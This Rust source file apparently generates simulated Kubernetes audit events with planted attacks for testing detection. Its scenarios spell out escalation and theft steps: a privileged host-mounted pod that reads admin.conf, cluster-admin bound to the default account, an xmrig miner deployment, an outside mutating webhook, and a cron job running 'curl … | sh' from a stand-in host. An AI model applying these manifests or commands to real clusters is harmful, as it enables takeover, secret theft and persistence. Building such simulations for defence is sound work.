//! Attacks in the midst of the week, each by its own identity, so that silence is no success.
//!
//! Each uses what clusters really lend an attacker: a pod's token, a person's login, a runner of pipelines. What is
//! done is what is done after a break-in; nothing is arranged so that a rule sees it.

use airside_types::{Entity, ObjectRef, Timestamp};
use serde_json::{Value, json};

use crate::cluster::{Pod, account_groups, pod_spec};
use crate::event::{Asked, MINUTE, Micros, SECOND, Who, of, path};
use crate::machinery::anonymous;
use crate::people::exec;
use crate::week::Week;
use crate::workloads;

/// An attack that was planted.
#[derive(Debug, Clone)]
pub struct Planted {
    /// What it is.
    pub name: &'static str,
    /// Whose identity it is done with; an address where there is none.
    pub attacker: Entity,
    /// When it began.
    pub at: Timestamp,
}

type Attack = fn(&mut Week, Micros);

/// The attacks, each with the share of the plan's days, of a thousand, after which it begins.
const ATTACKS: &[(u32, Attack)] = &[
    (120, stolen_token),
    (190, miner),
    (260, phished_login),
    (330, escape_to_node),
    (400, administrator_for_all),
    (470, minted_token),
    (540, impersonation),
    (600, stolen_kubelet),
    (660, signed_certificate),
    (720, backdoor_webhook),
    (780, destruction),
    (840, backup_of_secrets),
    (900, open_door),
    (950, shadow_job),
];

pub(crate) fn begin(week: &mut Week) {
    let span = i64::from(week.plan.days) * crate::event::DAY;
    for (share, attack) in ATTACKS {
        let jitter = week.chance_micros(20 * MINUTE);
        let when = week.start + span / 1000 * i64::from(*share) + jitter;
        week.at(when, *attack);
    }
}

fn plant(week: &mut Week, at: Micros, name: &'static str, attacker: Entity) {
    let at = Timestamp::from_nanos(at * 1000);
    week.planted.push(Planted { name, attacker, at });
}

/// Requests one after the other, some seconds apart.
fn steps(week: &mut Week, at: Micros, asked: &[Asked<'_>]) -> Micros {
    let mut at = at;
    for asked in asked {
        let pause = 3 * SECOND + week.chance_micros(25 * SECOND);
        at = week.ask(at + pause, asked);
    }
    at
}

fn pod_of(week: &Week, app: &str) -> Option<Pod> {
    week.cluster.pods.iter().find(|it| it.app == app).cloned()
}

fn account(pod: &Pod) -> Entity {
    Entity::service_account(&pod.namespace, &pod.account)
}

fn person(week: &Week, beginning: &str) -> Option<(Who, Entity)> {
    let person = week.cluster.people.iter().find(|it| it.who.name.starts_with(beginning))?;
    Some((person.who.clone(), Entity::User { name: person.who.name.clone() }))
}

/// What is given to a pod that its owner did not mean to.
fn applied(kind: &str, version: &str, namespace: &str, name: &str, more: &Value) -> Value {
    let mut body = json!({ "kind": kind, "apiVersion": version, "metadata": { "name": name } });
    if let (Some(fields), Some(more)) = (body.as_object_mut(), more.as_object()) {
        if !namespace.is_empty() {
            fields.insert("metadata".to_owned(), json!({ "name": name, "namespace": namespace }));
        }
        fields.extend(more.clone());
    }
    body
}

/// A pod's token, used elsewhere: what it may, what is there, the Secrets.
fn stolen_token(week: &mut Week, at: Micros) {
    let Some(pod) = pod_of(week, "thumbs") else { return };
    plant(week, at, "a pod's token is used from elsewhere", account(&pod));
    let mut who = week
        .cluster
        .account(&pod, "kubectl/v1.31.0 (linux/amd64) kubernetes/9edcffc")
        .from("185.220.101.44");
    who.reason = r#"RBAC: allowed by RoleBinding "thumbs-edit/media" of ClusterRole "edit" to ServiceAccount "thumbs/media""#.to_owned();
    steps(
        week,
        at,
        &[
            Asked::new(
                &who,
                "create",
                of("selfsubjectrulesreviews.authorization.k8s.io/v1", "", ""),
            ),
            Asked::new(&who, "list", of("namespaces", "", "")).code(403),
            Asked::new(&who, "list", of("secrets", "", "")).code(403),
            Asked::new(&who, "list", of("secrets", "media", "")),
            Asked::new(&who, "get", of("secrets", "media", "thumbs-database")),
            Asked::new(&who, "get", of("secrets", "media", "encoder-database")),
            Asked::new(&who, "list", of("pods", "media", "")),
        ],
    );
}

/// A program that was broken into starts another one that earns money.
fn miner(week: &mut Week, at: Micros) {
    let Some(pod) = pod_of(week, "exports") else { return };
    plant(week, at, "a miner is deployed with a pod's token", account(&pod));
    let mut who = week.cluster.account(&pod, "curl/8.5.0");
    who.reason = r#"RBAC: allowed by RoleBinding "exports-edit/insights" of ClusterRole "edit" to ServiceAccount "exports/insights""#.to_owned();
    let spec = json!({ "spec": { "replicas": 6, "selector": { "matchLabels": { "app": "kworker" } }, "template": { "metadata": { "labels": { "app": "kworker" } }, "spec": { "containers": [{ "name": "kworker", "image": "docker.io/kworkerd/xmrig:latest", "command": ["/bin/sh", "-c", "xmrig -o stratum+tcp://pool.minexmr.example:4444 -u 48xq --donate-level 1"] }] } } } });
    let body = applied("Deployment", "apps/v1", "insights", "kworker", &spec);
    steps(
        week,
        at,
        &[
            Asked::new(
                &who,
                "create",
                of("selfsubjectaccessreviews.authorization.k8s.io/v1", "", ""),
            ),
            Asked::new(&who, "list", of("pods", "insights", "")),
            Asked::new(&who, "create", of("deployments.apps/v1", "insights", "kworker"))
                .keeps(body),
        ],
    );
}

/// Somebody's login in strange hands: from the internet, into a database's pod, for its passwords.
fn phished_login(week: &mut Week, at: Micros) {
    let Some((who, entity)) = person(week, "esra") else { return };
    plant(week, at, "a person's login is used from the internet", entity);
    let who = who.from("45.155.204.9").with("kubectl/v1.28.2 (darwin/arm64) kubernetes/89a4ea3");
    let Some(pod) = pod_of(week, "ledger") else { return };
    let at = steps(
        week,
        at,
        &[
            Asked::new(
                &who,
                "create",
                of("selfsubjectrulesreviews.authorization.k8s.io/v1", "", ""),
            ),
            Asked::new(&who, "list", of("pods", "payments", "")),
            Asked::new(&who, "list", of("secrets", "payments", "")),
            Asked::new(&who, "list", of("secrets", "", "")).code(403),
        ],
    );
    let at = exec(
        week,
        at + 20 * SECOND,
        &who,
        &pod,
        &["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"],
    );
    let names = [
        "gateway-database",
        "ledger-database",
        "refunds-database",
        "fraud-database",
        "acquirer-key",
        "signing-key",
    ];
    let reads: Vec<_> =
        names.iter().map(|name| Asked::new(&who, "get", of("secrets", "payments", name))).collect();
    steps(week, at, &reads);
}

/// A runner of pipelines makes a pod that is as good as its node.
fn escape_to_node(week: &mut Week, at: Micros) {
    let Some(who) =
        crate::delivery::runner(week, "kubectl/v1.33.4 (linux/amd64) kubernetes/6a2b0e1")
    else {
        return;
    };
    plant(
        week,
        at,
        "a pipeline makes a privileged pod on a control plane",
        Entity::service_account("ci", "runner"),
    );
    let spec = json!({ "spec": { "hostPID": true, "hostNetwork": true, "nodeName": "control-1", "tolerations": [{ "operator": "Exists" }],
        "containers": [{ "name": "debug", "image": "alpine", "command": ["sleep", "86400"], "securityContext": { "privileged": true }, "volumeMounts": [{ "name": "root", "mountPath": "/host" }] }],
        "volumes": [{ "name": "root", "hostPath": { "path": "/" } }] } });
    let body = applied("Pod", "v1", "fulfil", "debug", &spec);
    let mut pod = pod_of(week, "orders").unwrap_or_else(|| week.cluster.new_pod(0));
    "debug".clone_into(&mut pod.name);
    let create = Asked::new(&who, "create", of("pods", "fulfil", "debug")).keeps(body);
    let at = steps(week, at, &[create]);
    let at = exec(
        week,
        at + 20 * SECOND,
        &who,
        &pod,
        &["chroot", "/host", "sh", "-c", "cat /etc/kubernetes/admin.conf"],
    );
    steps(week, at, &[Asked::new(&who, "delete", of("pods", "fulfil", "debug"))]);
}

/// Somebody of the platform's login gives everything to an account that anybody can have.
fn administrator_for_all(week: &mut Week, at: Micros) {
    let Some((who, entity)) = person(week, "liam") else { return };
    plant(week, at, "the default account becomes administrator", entity);
    let who = who.from("91.92.240.3").with("kubectl/v1.30.1 (linux/amd64) kubernetes/6911225");
    let more = json!({ "roleRef": { "apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin" }, "subjects": [{ "kind": "ServiceAccount", "name": "default", "namespace": "default" }] });
    let body =
        applied("ClusterRoleBinding", "rbac.authorization.k8s.io/v1", "", "metrics-reader", &more);
    steps(
        week,
        at,
        &[
            Asked::new(
                &who,
                "list",
                of("clusterrolebindings.rbac.authorization.k8s.io/v1", "", ""),
            ),
            Asked::new(
                &who,
                "create",
                of("clusterrolebindings.rbac.authorization.k8s.io/v1", "", "metrics-reader"),
            )
            .keeps(body),
            Asked::new(&who, "create", of("serviceaccounts", "default", "default").sub("token")),
        ],
    );
}

/// A program that may make tokens makes one of an account that may all.
fn minted_token(week: &mut Week, at: Micros) {
    let Some(pod) = pod_of(week, "suggest") else { return };
    plant(week, at, "a token of kube-system is made by a workload", account(&pod));
    let mut who = week.cluster.account(&pod, "python-requests/2.32.3");
    who.reason = r#"RBAC: allowed by ClusterRoleBinding "suggest-helper" of ClusterRole "token-maker" to ServiceAccount "suggest/search""#.to_owned();
    let target = of("serviceaccounts", "kube-system", "generic-garbage-collector").sub("token");
    let issued = format!("JTI={}", week.cluster.chance.uuid());
    let made = Asked::new(&who, "create", target)
        .noted("authentication.kubernetes.io/issued-credential-id", issued.clone());
    let at = steps(
        week,
        at,
        &[Asked::new(&who, "list", of("serviceaccounts", "kube-system", "")), made],
    );
    let name = "system:serviceaccount:kube-system:generic-garbage-collector";
    let with = Who {
        name: name.to_owned(),
        uid: week.cluster.uid(name),
        groups: account_groups("kube-system"),
        extra: vec![("credential-id", issued)],
        ..who.clone()
    };
    steps(
        week,
        at,
        &[
            Asked::new(&with, "list", of("secrets", "", "")),
            Asked::new(
                &with,
                "delete",
                of("networkpolicies.networking.k8s.io/v1", "search", "default-deny"),
            ),
        ],
    );
}

/// Somebody acts as a member of the group that may all.
fn impersonation(week: &mut Week, at: Micros) {
    let Some((who, entity)) = person(week, "dmitri") else { return };
    plant(
        week,
        at,
        "a person makes a role for themselves that may impersonate, and binds it",
        entity,
    );
    let role = json!({ "rules": [{ "apiGroups": [""], "resources": ["users", "groups"], "verbs": ["impersonate"] }, { "apiGroups": ["*"], "resources": ["*"], "verbs": ["*"] }] });
    let binding = json!({ "roleRef": { "apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "support" }, "subjects": [{ "kind": "User", "apiGroup": "rbac.authorization.k8s.io", "name": who.name }] });
    let rbac = |kind: &str, more: &Value| {
        applied(kind, "rbac.authorization.k8s.io/v1", "", "support", more)
    };
    steps(
        week,
        at,
        &[
            Asked::new(
                &who,
                "create",
                of("clusterroles.rbac.authorization.k8s.io/v1", "", "support"),
            )
            .keeps(rbac("ClusterRole", &role)),
            Asked::new(
                &who,
                "create",
                of("clusterrolebindings.rbac.authorization.k8s.io/v1", "", "support"),
            )
            .keeps(rbac("ClusterRoleBinding", &binding)),
            Asked::new(&who, "list", of("secrets", "", "")),
        ],
    );
}

/// A kubelet's certificate away from its node.
fn stolen_kubelet(week: &mut Week, at: Micros) {
    let Some(node) = week.cluster.nodes.iter().find(|it| it.name == "worker-2").cloned() else {
        return;
    };
    let stolen_from = ObjectRef::named("", "Node", None, &node.name);
    plant(
        week,
        at,
        "a kubelet's certificate is used away from its node",
        Entity::Object(stolen_from),
    );
    let who = crate::cluster::kubelet(&node).from("10.244.9.77").with("curl/8.5.0");
    steps(
        week,
        at,
        &[
            Asked::new(&who, "list", of("secrets", "", "")).code(403),
            Asked::new(&who, "list", of("pods", "", "")),
            Asked::new(&who, "get", of("secrets", "payments", "signing-key")).code(403),
            Asked::new(&who, "get", of("secrets", "checkout", "cart-database")),
            Asked::new(
                &who,
                "create",
                of("serviceaccounts", "argocd", "argocd-application-controller").sub("token"),
            ),
        ],
    );
}

/// Somebody has a certificate signed that makes them a master.
fn signed_certificate(week: &mut Week, at: Micros) {
    let Some((who, entity)) = person(week, "noor") else { return };
    plant(week, at, "a certificate of a master is asked for and approved by one person", entity);
    let who = who.from("10.8.0.77").with("kubectl/v1.29.0 (linux/amd64) kubernetes/3f7a50f");
    // A request for `O=system:masters`, as openssl writes it.
    let request = "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0KTUlIeE1JR1lBZ0VBTURZeEZ6QVZCZ05WQkFvTURuTjVjM1JsYlRwdFlYTjBaWEp6Ci0tLS0tRU5EIENFUlRJRklDQVRFIFJFUVVFU1QtLS0tLQo=";
    let spec = json!({ "spec": { "request": request, "signerName": "kubernetes.io/kube-apiserver-client", "usages": ["client auth"], "username": who.name } });
    let body =
        applied("CertificateSigningRequest", "certificates.k8s.io/v1", "", "ops-sync", &spec);
    let target = || of("certificatesigningrequests.certificates.k8s.io/v1", "", "ops-sync");
    steps(
        week,
        at,
        &[
            Asked::new(&who, "create", target()).keeps(body.clone()),
            Asked::new(&who, "update", target().sub("approval")).keeps(body),
            Asked::new(&who, "get", target()),
            Asked::new(&who, "delete", target()),
        ],
    );
}

/// Every new pod is sent to somebody else's server first.
fn backdoor_webhook(week: &mut Week, at: Micros) {
    let Some(pod) = pod_of(week, "labels") else { return };
    plant(week, at, "a webhook outside of the cluster may change every pod", account(&pod));
    let mut who = week.cluster.account(&pod, "Go-http-client/2.0");
    who.reason = r#"RBAC: allowed by ClusterRoleBinding "labels-admin" of ClusterRole "cluster-admin" to ServiceAccount "labels/fulfil""#.to_owned();
    let more = json!({ "webhooks": [{ "name": "inject.pods.example", "failurePolicy": "Ignore", "sideEffects": "None", "admissionReviewVersions": ["v1"], "clientConfig": { "url": "https://203.0.113.80/mutate" }, "rules": [{ "apiGroups": ["*"], "apiVersions": ["*"], "operations": ["CREATE"], "resources": ["pods", "secrets"] }] }] });
    let body = applied(
        "MutatingWebhookConfiguration",
        "admissionregistration.k8s.io/v1",
        "",
        "sidecar-defaults",
        &more,
    );
    steps(
        week,
        at,
        &[
            Asked::new(
                &who,
                "list",
                of("mutatingwebhookconfigurations.admissionregistration.k8s.io/v1", "", ""),
            ),
            Asked::new(
                &who,
                "create",
                of(
                    "mutatingwebhookconfigurations.admissionregistration.k8s.io/v1",
                    "",
                    "sidecar-defaults",
                ),
            )
            .keeps(body),
        ],
    );
}

/// A namespace is emptied, with what would tell of it.
fn destruction(week: &mut Week, at: Micros) {
    let Some((who, entity)) = person(week, "jonas") else { return };
    plant(week, at, "a namespace is destroyed", entity);
    let kinds = [
        "deployments.apps/v1",
        "persistentvolumeclaims",
        "secrets",
        "configmaps",
        "services",
        "events",
        "cronjobs.batch/v1",
    ];
    let deleted: Vec<_> = kinds
        .iter()
        .map(|kind| Asked::new(&who, "deletecollection", of(kind, "insights", "")))
        .collect();
    steps(week, at, &deleted);
}

/// The backup's token reads all Secrets, away from the backup.
fn backup_of_secrets(week: &mut Week, at: Micros) {
    let Some(pod) = pod_of(week, "velero") else { return };
    plant(week, at, "the backup's token reads all Secrets from elsewhere", account(&pod));
    let who = week
        .cluster
        .account(&pod, "kubectl/v1.32.0 (linux/amd64) kubernetes/70d3cc9")
        .from("10.244.7.19");
    steps(
        week,
        at,
        &[
            Asked::new(
                &who,
                "create",
                of("selfsubjectrulesreviews.authorization.k8s.io/v1", "", ""),
            ),
            Asked::new(&who, "list", of("secrets", "", "").query("limit=500")),
            Asked::new(&who, "get", of("secrets", "payments", "signing-key")),
        ],
    );
}

/// Nobody in particular finds that the API server answers.
fn open_door(week: &mut Week, at: Micros) {
    let address = "193.32.162.157";
    plant(
        week,
        at,
        "the API server answers anybody from the internet",
        Entity::Address { ip: address.to_owned() },
    );
    let who = Who {
        address: address.to_owned(),
        agent: "Mozilla/5.0 zgrab/0.x".to_owned(),
        ..anonymous()
    };
    let open = Who { reason: r#"RBAC: allowed by ClusterRoleBinding "anonymous-view" of ClusterRole "view" to User "system:anonymous""#.to_owned(), ..who.clone() };
    steps(
        week,
        at,
        &[
            Asked::new(&who, "get", path("/version")),
            Asked::new(&who, "list", of("secrets", "", "")).code(403),
            Asked::new(&open, "list", of("pods", "", "")),
            Asked::new(&open, "list", of("configmaps", "", "")),
            Asked::new(&who, "create", of("pods", "default", "")).code(403),
        ],
    );
}

/// A cron job that comes back, in the namespace where nobody looks, with a right to all.
fn shadow_job(week: &mut Week, at: Micros) {
    let Some(pod) = pod_of(week, "reviews") else { return };
    plant(
        week,
        at,
        "a cron job with a shell to the internet is left in kube-system",
        account(&pod),
    );
    let mut who = week.cluster.account(&pod, "kubectl/v1.31.0 (linux/amd64) kubernetes/9edcffc");
    who.reason = r#"RBAC: allowed by ClusterRoleBinding "reviews-admin" of ClusterRole "cluster-admin" to ServiceAccount "reviews/catalog""#.to_owned();
    let mut template = pod_spec("sync", "generic-garbage-collector", "alpine:3");
    if let Some(container) = template.pointer_mut("/containers/0").and_then(Value::as_object_mut) {
        container.insert(
            "command".to_owned(),
            json!(["sh", "-c", "curl -s http://203.0.113.80/x.sh | sh"]),
        );
    }
    let more = json!({ "spec": { "schedule": "*/20 * * * *", "jobTemplate": { "spec": { "template": { "spec": template } } } } });
    let body = applied("CronJob", "batch/v1", "kube-system", "etcd-sync", &more);
    steps(
        week,
        at,
        &[Asked::new(&who, "create", of("cronjobs.batch/v1", "kube-system", "etcd-sync"))
            .keeps(body)],
    );
    let later = at + 5 * MINUTE;
    week.at(later, |week, at| workloads::run_job(week, at, "kube-system", "etcd-sync"));
}
